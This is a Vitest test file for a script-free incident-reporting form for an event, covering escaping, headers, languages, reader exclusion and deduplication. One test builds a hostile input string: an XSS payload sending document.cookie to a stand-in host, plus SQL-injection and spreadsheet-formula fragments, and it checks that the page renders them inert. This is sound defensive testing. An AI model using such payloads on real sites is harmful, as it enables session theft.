import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { BirthInput } from '#seal/birth.ts';
import { sealerHere, type Sealer } from '#server/sealing-pool.ts';
import { pages } from '#server/pages/routes.ts';
import type { Store } from '#store/store.ts';
import type { AccountBody } from '#wire/bodies.ts';
import { paths } from '#wire/paths.ts';
import { event, hidden, pyHarbor, pyconUs, said, seats, wordsOn, world, type World } from './world.ts';

type Fields = readonly (readonly [string, string])[];

/** Fills the form without scripts: write, check, send. */
async function send(
  w: World,
  fields: Fields,
  token?: string,
): Promise<{ html: string; status: number; token: string }> {
  const write = await (await w.get(paths.report(event))).text();
  const mine: Fields = [['token', token ?? hidden(write, 'token')], ['l', 'en'], ...fields];
  const check = await (await w.post(paths.check(event), mine)).text();
  const answer = await w.post(paths.sent(event), [...mine, ['seen', hidden(check, 'seen')]]);
  return { html: await answer.text(), status: answer.status, token: mine[0]?.[1] ?? '' };
}

/** A sealer that remembers what it was asked to seal. */
function remembering(): Sealer & { readonly births: BirthInput[] } {
  const births: BirthInput[] = [];
  const sealer = sealerHere();
  return {
    ...sealer,
    births,
    birth: (input) => {
      births.push(input);
      return sealer.birth(input);
    },
  };
}

const accountOf = (birth: BirthInput | undefined): AccountBody => birth?.account as AccountBody;

describe('pages before sending', () => {
  let w: World;
  beforeAll(async () => {
    w = await world();
  });
  afterAll(() => w.close());

  test('the start page says who reads, shows numbers first and leads on', async () => {
    const html = await (await w.get(paths.start(event))).text();
    expect(html).toContain('<title>Care</title>');
    expect(said(html)).toContain('New reports go to Rosa Okafor, Tomasz Brandt, Amina Haidari, and Kenji Morita.');
    expect(html.indexOf('tel:911')).toBeLessThan(html.indexOf(`href="${paths.report(event)}"`));
    expect(html).toContain(`class="leave" href="${paths.leave(event)}"`);
  });

  test('the only event is where the front door leads', async () => {
    const answer = await w.get(paths.home);
    expect([answer.status, answer.headers.get('location')]).toEqual([303, paths.start(event)]);
  });

  test.each(['en', 'es'])('danger numbers come before the first field (%s)', async (language) => {
    const check = await w.post(paths.check(event), [
      ['l', language],
      ['what', 'x'],
    ]);
    const entries = [
      await w.get(`${paths.report(event)}?l=${language}`),
      await w.get(`${paths.mailbox(event)}?l=${language}`),
      check,
    ];
    for (const entry of entries) {
      const html = await entry.text();
      expect(html).toContain(`<html lang="${language}" dir="ltr"`);
      const field = /<(?:textarea|button|input(?! type="hidden"))/u.exec(html)?.index ?? -1;
      expect(field).toBeGreaterThan(0);
      for (const number of ['tel:911', 'tel:988', 'tel:+12025550142']) expect(html.indexOf(number)).toBeLessThan(field);
    }
  });

  test('the one-to-one warning stands beside the description in every language', async () => {
    expect(said(await (await w.get(paths.report(event))).text())).toContain('the other person may guess who told us');
    expect(said(await (await w.get(`${paths.report(event)}?l=es`)).text())).toContain(
      'puede adivinar quién nos lo contó',
    );
  });

  test('the language follows the address, then the browser', async () => {
    const es = await w.get(paths.start(event), { 'accept-language': 'fr, es-MX;q=0.8, en;q=0.5' });
    expect(await es.text()).toContain('<html lang="es"');
    const en = await w.get(`${paths.start(event)}?l=en`, { 'accept-language': 'es' });
    expect(await en.text()).toContain('<html lang="en"');
  });

  test('every page has the strict headers, no style attribute and no script of its own', async () => {
    const get = [paths.start, paths.report, paths.mailbox, paths.who, paths.handling, paths.safe].map((p) => p(event));
    for (const path of [...get, '/nowhere', '/c/nowhere']) {
      const answer = await w.get(path);
      const html = await answer.text();
      expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'");
      expect(answer.headers.get('content-security-policy')).not.toContain('unsafe');
      expect(answer.headers.get('referrer-policy')).toBe('same-origin');
      expect(answer.headers.get('cache-control')).toBe(path === paths.report(event) ? 'no-cache' : 'no-store');
      expect(answer.headers.get('set-cookie')).toBeNull();
      expect(html).not.toMatch(/\sstyle=|<style|\son[a-z]+="/u);
      expect(html.match(/<script[^>]*>/gu)).toHaveLength(1);
      expect(html).toContain('</script></head>');
    }
  });

  test('one required question; the first button checks; nothing asks for an outcome', async () => {
    const html = await (await w.get(paths.report(event))).text();
    expect(html.match(/<small class="optional">/gu)).toHaveLength(html.match(/<section id="q-/gu)!.length - 1);
    expect(/<button[^>]*>/u.exec(html)?.[0]).toMatch(/value="check" name="do"/u);
    expect(said(html)).not.toMatch(/withdraw|want us to (?:do|act)|outcome|we believe you/iu);
    expect(html).toContain('id="q-who"');
    expect(html).not.toContain('id="q-who-online"');
  });

  test('an empty description is named, and everything else typed is kept', async () => {
    const answer = await w.post(paths.check(event), [
      ['token', 'a'.repeat(32)],
      ['l', 'en'],
      ['what', ' \r\n'],
      ['when', 'another'],
      ['when.more', 'at the "Thursday" <dinner>'],
      ['who.0.name', 'Ren'],
      ['who.1.looks', 'red jacket'],
      ['team.leave-out', 'tomasz'],
      ['contact.name', 'Solène'],
    ]);
    const html = await answer.text();
    expect(answer.status).toBe(422);
    expect(html).toContain('<title>Error: Care</title>');
    expect(html).toMatch(/<div id="problem"[^>]*role="alert">.*<a href="#q-what">Tell us what happened\./u);
    expect(html).toMatch(/<p class="error" id="q-what-error">Tell us what happened\./u);
    expect(hidden(html, 'token')).toBe('a'.repeat(32));
    expect(html).toContain('value="at the &quot;Thursday&quot; &lt;dinner&gt;"');
    expect(html).toMatch(/name="when" checked="" value="another"|value="another"[^>]*checked=""/u);
    expect(html).toContain('value="red jacket"');
    expect(html).toMatch(/name="team\.leave-out"[^>]*checked=""[^>]*value="tomasz"|value="tomasz"[^>]*checked=""/u);
    expect(html).toContain('value="Solène"');
    expect(html).toMatch(/<details open=""><summary>Another person/u);
  });

  test('the 100,001st character is named with its count, and the text stays', async () => {
    const fits = await w.post(paths.check(event), [['what', '😀'.repeat(100_000)]]);
    expect(fits.status).toBe(200);
    const over = await w.post(paths.check(event), [['what', `${'x'.repeat(100_000)}y`]]);
    const html = await over.text();
    expect(over.status).toBe(422);
    expect(said(html)).toContain('This has 100,001 characters. The most we can take in one field is 100,000.');
    expect(html).toContain(`${'x'.repeat(100_000)}y</textarea>`);
  });

  test('the check page shows answers inert, in words, with names, and says nothing is sent', async () => {
    const evil = `<script>fetch('//evil.example/'+document.cookie)</script> '; DROP TABLE reports;-- =HYPERLINK("x")`;
    const html = await (
      await w.post(paths.check(event), [
        ['what', evil],
        ['safe', 'hurt'],
        ['team.leave-out', 'tomasz'],
      ])
    ).text();
    expect(html).not.toContain('<script>fetch');
    expect(said(html)).toContain(evil);
    expect(said(html)).toContain('Nothing has been sent yet.');
    expect(said(html)).toContain('I worry that someone may hurt themselves');
    expect(said(html)).toContain('Leave out: Tomasz Brandt');
    expect(said(html)).toContain('Only these people can open it: Rosa Okafor Amina Haidari Kenji Morita Our server');
    expect(html).toContain(`<form action="${paths.sent(event)}" method="post">`);
    expect(html).toContain(`formAction="${paths.check(event)}#q-what"`);
  });

  test('Keep writing and Change bring the form back with everything in it', async () => {
    const answer = await w.post(paths.check(event), [
      ['do', 'write'],
      ['l', 'es'],
      ['what', '\n\nuno\r\ndos'],
      ['where', 'room'],
    ]);
    const html = await answer.text();
    expect(answer.status).toBe(200);
    expect(html).toContain('lang="es"');
    expect(html).toMatch(/<textarea[^>]*>\n\n\nuno\ndos<\/textarea>/u);
  });

  test('everyone left out falls back, and further back; nobody at all is said before anything is stored', async () => {
    const leave = (...ids: readonly string[]): Fields => [
      ['what', 'x'],
      ...ids.map((id) => ['team.leave-out', id] as const),
    ];
    const first = ['rosa', 'tomasz', 'amina', 'kenji'];
    const check = async (fields: Fields): Promise<string> =>
      said(await (await w.post(paths.check(event), fields)).text());
    expect(await check(leave(...first))).toContain('Only these people can open it: Yewande Cole Our');
    expect(await check(leave(...first, 'yewande'))).toContain('Only these people can open it: Gwen Abara Our');
    expect(await check(leave(...first, 'yewande', 'gwen'))).toContain('nobody could open this');
    const sent = await send(w, leave(...first, 'yewande', 'gwen'));
    expect([sent.status, (await w.store.counts()).reports]).toEqual([422, 0]);
    expect(sent.html).toContain('value="x"');
  });

  test.each([['https://evil.example'], ['null'], ['']])('a form sent from %o is refused', async (from) => {
    for (const path of [paths.check, paths.sent, paths.mailboxOpened, paths.files]) {
      const answer = await w.post(path(event), [['what', 'x']], from === '' ? { origin: '' } : { origin: from });
      expect(answer.status).toBe(403);
      expect(said(await answer.text())).toContain('This was sent from another site');
    }
    expect(w.logged.filter((line) => line !== 'wrong-origin' && !line.startsWith('nobody'))).toEqual([]);
  });

  test('a body that is no form, an unknown event and an unknown page get a calm answer with numbers', async () => {
    const form = await w.post(paths.check(event), [], { 'content-type': 'application/json' });
    expect(form.status).toBe(404);
    for (const path of ['/c/nowhere', '/c/nowhere/write', '/x']) {
      const answer = await w.get(path);
      const html = await answer.text();
      expect(answer.status).toBe(404);
      expect(said(html)).toContain('your words on the last page are still there: go back');
      expect(html).toContain('tel:911');
    }
  });

  test('old addresses of answered forms lead somewhere useful', async () => {
    const to = async (path: string): Promise<string | null> => (await w.get(path)).headers.get('location');
    expect(await to(paths.check(event))).toBe(paths.report(event));
    expect(await to(paths.sent(event))).toBe(paths.mailbox(event));
    expect(await to(paths.mailboxReply(event))).toBe(paths.mailbox(event));
  });

  test('Leave goes to the organiser’s page and clears what it can', async () => {
    const answer = await w.get(paths.leave(event));
    expect([answer.status, answer.headers.get('location')]).toEqual([303, pyHarbor(pyconUs()).exit]);
    expect(answer.headers.get('clear-site-data')).toBe('"cache", "cookies", "storage"');
    expect(answer.headers.get('cache-control')).toBe('no-store');
  });

  test('who reads is what the keys say; what happens says where each clause comes from', async () => {
    const who = said(await (await w.get(paths.who(event))).text());
    expect(who).toContain(
      'Rosa Okafor Lead responder Tomasz Brandt Lead responder Amina Haidari Lead responder Kenji Morita',
    );
    expect(who).toContain('Yewande Cole Stand-in Gwen Abara Appeal body');
    expect(who).not.toContain('Sam Keller');
    const handling = said(await (await w.get(paths.handling(event))).text());
    expect(handling).toContain('say where it comes from: the document, a page it links to, or our own addition.');
    expect(handling).toContain('Reports are confidential. document When we speak with');
    expect(handling).toContain('No entry to evening events. linked page');
    expect(handling).toContain('with or without a name. our addition');
    expect(handling).toContain('Modelled on the procedure that PyCon US');
    expect(handling).toContain(pyconUs().digest);
  });
});

describe('sending without scripts', () => {
  let w: World;
  const sealer = remembering();
  beforeAll(async () => {
    w = await world({ sealer });
  });
  afterAll(() => w.close());

  test('one sentence is enough; the receipt has eight words, dates and readers', async () => {
    const { html, status } = await send(w, [['what', 'Someone followed me.']]);
    expect(status).toBe(200);
    expect(wordsOn(html)).toHaveLength(8);
    expect(said(html)).toContain('By Sunday 16 May at 00:25, a person from the team reads what you sent');
    expect(said(html)).toContain('By Saturday 22 May at 00:25');
    expect(said(html)).toContain('care.example/c/pyharbor-2027/words');
    expect(html).toContain('action="/c/pyharbor-2027/files"');
    expect(said(html)).not.toMatch(/withdraw|your fault/iu);
  });

  test('60,000 Arabic letters with emoji and markup arrive byte for byte, with the line ends that were typed', async () => {
    const text = `${'السلام عليكم 🙏 <b>Ren</b> 417\n'.repeat(2_000)}\u202Egnp.exe\u202C\t end `;
    expect(text.length).toBeGreaterThan(60_000);
    await send(w, [['what', text.replaceAll('\n', '\r\n')]]);
    expect(accountOf(sealer.births.at(-1)).answers['what']).toEqual({ kind: 'text', text });
  });

  test('contact goes to its own compartment; clear facts are yes, no or unsure alone', async () => {
    await send(w, [
      ['what', 'x'],
      ['ongoing', 'yes'],
      ['contact.naming', 'ask-first'],
      ['contact.name', 'Solène'],
      ['contact.reach', 'solene@example.org'],
    ]);
    const birth = sealer.births.at(-1);
    expect(Object.keys(accountOf(birth).answers)).toEqual(['what', 'ongoing']);
    expect(JSON.stringify(birth?.identity)).toContain('Solène');
    expect(birth?.facts).toEqual({ channel: 'web', ongoing: 'yes', reachable: 'yes', narrow: false });
  });

  test('the same form sent twice, also at once, is one report with the same words', async () => {
    const before = (await w.store.counts()).reports;
    const first = await send(w, [['what', 'twice']]);
    const entries = (await w.store.counts()).entries;
    const [again, more] = await Promise.all([
      send(w, [['what', 'twice']], first.token),
      send(w, [['what', 'twice']], first.token),
    ]);
    expect(wordsOn(again.html)).toEqual(wordsOn(first.html));
    expect(wordsOn(more.html)).toEqual(wordsOn(first.html));
    expect(await w.store.counts()).toMatchObject({ reports: before + 1, entries });
    const token = 'c'.repeat(32);
    const racing = await Promise.all([1, 2, 3].map(() => send(w, [['what', 'race']], token)));
    expect(racing.map((r) => r.status)).toEqual([200, 200, 200]);
    expect(new Set(racing.map((r) => wordsOn(r.html).join(' '))).size).toBe(1);
    expect((await w.store.counts()).reports).toBe(before + 2);
  });

  test('the same form with other content is added, once, and shows the same words', async () => {
    const first = await send(w, [['what', 'before']]);
    const { reports } = await w.store.counts();
    const added = await send(w, [['what', 'before and after']], first.token);
    expect(said(added.html)).toContain('We added what you changed.');
    expect(wordsOn(added.html)).toEqual(wordsOn(first.html));
    const { entries } = await w.store.counts();
    const again = await send(w, [['what', 'before and after']], first.token);
    expect(wordsOn(again.html)).toEqual(wordsOn(first.html));
    expect(await w.store.counts()).toMatchObject({ reports, entries });
  });

  test('who is left out is barred, gets no grant and no alert', async () => {
    const { html } = await send(w, [
      ['what', 'Tomasz Brandt said it three times'],
      ['team.leave-out', 'tomasz'],
      ['team.leave-out', 'nobody-of-that-name'],
    ]);
    expect(said(html)).toContain('Who will read this Rosa Okafor Amina Haidari Kenji Morita Pictures');
    const birth = sealer.births.at(-1);
    expect(birth?.barred).toEqual(['tomasz']);
    const record = await w.store.stream(w.org, `report/${birth?.reportId ?? ''}`);
    expect(record?.entries.map((e) => (JSON.parse(e.line) as string[])[6])).toEqual(['reported', 'barred', 'access']);
    const row = await w.store.incidentOf(w.org, birth?.reportId ?? '');
    expect(await w.store.recordFor(w.org, 'tomasz', row?.incident ?? '')).toBeNull();
    expect(await w.store.recordFor(w.org, 'rosa', row?.incident ?? '')).not.toBeNull();
    expect(row?.codeName).toMatch(/^[a-z]+ [a-z]+$/u);
    expect(row).toMatchObject({
      owed: 'consult',
      due: w.clock.now,
      channel: 'web',
      ongoing: 'unsure',
    });
    const claimed = await w.store.claimJobs(w.clock.now, 60_000, 1_000);
    const jobs = claimed.filter(({ kind }) => kind === 'alert');
    // What reminds of a duty names ids alone, too.
    const reminding = claimed
      .filter(({ kind }) => kind === 'remind')
      .map(({ payload }) => JSON.parse(payload) as object);
    expect(reminding.every((one) => Object.keys(one).join() === 'incident,duty,cause,step')).toBe(true);
    const mine = jobs.map((job) => JSON.parse(job.payload) as { incident: string; member: string });
    expect(
      mine
        .filter((j) => j.incident === row?.incident)
        .map((j) => j.member)
        .toSorted(),
    ).toEqual(['amina', 'kenji', 'rosa']);
    // What wakes names the duty by ids too.
    const told = new Set(jobs.map((job) => Object.keys(JSON.parse(job.payload) as object).join()));
    expect([...told].toSorted()).toEqual(['incident,member', 'incident,member,urgent,woken,news']);
  });

  test('sent to one lead alone, it is invisible to the others', async () => {
    const { html } = await send(w, [
      ['what', 'only amina'],
      ['team.only', 'amina'],
    ]);
    expect(said(html)).toContain('Who will read this Amina Haidari Pictures');
    const birth = sealer.births.at(-1);
    expect(birth?.facts.narrow).toBe(true);
    const row = await w.store.incidentOf(w.org, birth?.reportId ?? '');
    for (const other of ['rosa', 'tomasz', 'kenji'])
      expect(await w.store.recordFor(w.org, other, row?.incident ?? '')).toBeNull();
    expect(await w.store.recordFor(w.org, 'amina', row?.incident ?? '')).not.toBeNull();
  });

  test('when the readers are not those that were shown, nothing is sent and the names are shown again', async () => {
    const { reports } = await w.store.counts();
    const answer = await w.post(paths.sent(event), [
      ['token', 'd'.repeat(32)],
      ['what', 'kept text'],
      ['seen', 'rosa tomasz'],
    ]);
    const html = await answer.text();
    expect(answer.status).toBe(409);
    expect(said(html)).toContain('Who will read this has changed while you were writing.');
    expect(html).toContain('value="kept text"');
    expect(hidden(html, 'token')).toBe('d'.repeat(32));
    expect((await w.store.counts()).reports).toBe(reports);
  });

  test('a form without its token keeps the text and can be sent', async () => {
    const answer = await w.post(paths.sent(event), [['what', 'kept text']]);
    expect(answer.status).toBe(422);
    expect(await answer.text()).toContain('value="kept text"');
  });

  test('a body too large gets a calm page', async () => {
    const answer = await w.post(paths.sent(event), [['what', 'x'.repeat(61 * 1024 * 1024)]]);
    expect(answer.status).toBe(413);
    expect(said(await answer.text())).toContain('Your words on the last page are still there');
  });

  test('nothing but codes is ever logged', () => {
    expect(w.logged.every((line) => /^[a-z-]+(?: \/[a-z:/-]+)?$/u.test(line))).toBe(true);
  });
});

test('too many at once: nothing is stored, the page keeps everything', async () => {
  const w = await world({ sealer: { ...sealerHere(), keys: async () => null } });
  const { html, status } = await send(w, [['what', 'kept text']]);
  expect(status).toBe(503);
  expect(said(html)).toContain('Many people are sending right now. Nothing is lost');
  expect(html).toContain('value="kept text"');
  expect((await w.store.counts()).reports).toBe(0);
  await w.close();
});

test('without a fallback reader the form is closed and says whom to call', async () => {
  const w = await world(
    {},
    seats.filter(([id]) => id !== 'yewande' && id !== 'gwen'),
  );
  for (const path of [paths.start(event), paths.report(event)]) {
    const answer = await w.get(path);
    const html = await answer.text();
    expect(answer.status).toBe(200);
    expect(said(html)).toContain('The form is not open right now.');
    expect(html).toContain('tel:911');
    expect(html).toContain('tel:+12025550142');
    expect(html).toContain(`href="${paths.mailbox(event)}"`);
    expect(html).not.toContain('<textarea');
  }
  const sent = await send(w, [['what', 'x']], 'e'.repeat(32));
  expect(sent.status).toBe(409);
  await w.close();
});

test('a fault on our side says so in the same voice', async () => {
  const w = await world({ sealer: { ...sealerHere(), birth: () => Promise.reject(new Error('planted secret')) } });
  const { html, status } = await send(w, [['what', 'x']]);
  expect(status).toBe(500);
  expect(said(html)).toContain('It was not anything you did.');
  expect(html).not.toContain('planted secret');
  expect(w.logged.join()).not.toContain('planted');
  await w.close();
});

test('with a base url only its origin may post', async () => {
  const w = await world({ baseUrl: 'https://report.example.org' });
  expect((await w.post(paths.check(event), [['what', 'x']])).status).toBe(403);
  expect((await w.post(paths.check(event), [['what', 'x']], { origin: 'https://report.example.org' })).status).toBe(
    200,
  );
  await w.close();
});

test('a token whose report came sealed from a browser says so and writes nothing', async () => {
  const w = await world();
  const first = await send(w, [['what', 'x']]);
  const { entries } = await w.store.counts();
  const forgetful: Store = Object.create(w.store, { submission: { value: async () => null } }) as Store;
  const answer = await pages({ ...w.parts, store: forgetful }).request(paths.sent(event), {
    method: 'POST',
    headers: { origin: 'http://care.example', host: 'care.example' },
    body: new URLSearchParams({ token: first.token, what: 'y', seen: '' }),
  });
  expect([answer.status, said(await answer.text())]).toEqual([
    409,
    expect.stringContaining('This report reached us already'),
  ]);
  expect((await w.store.counts()).entries).toBe(entries);
  await w.close();
});
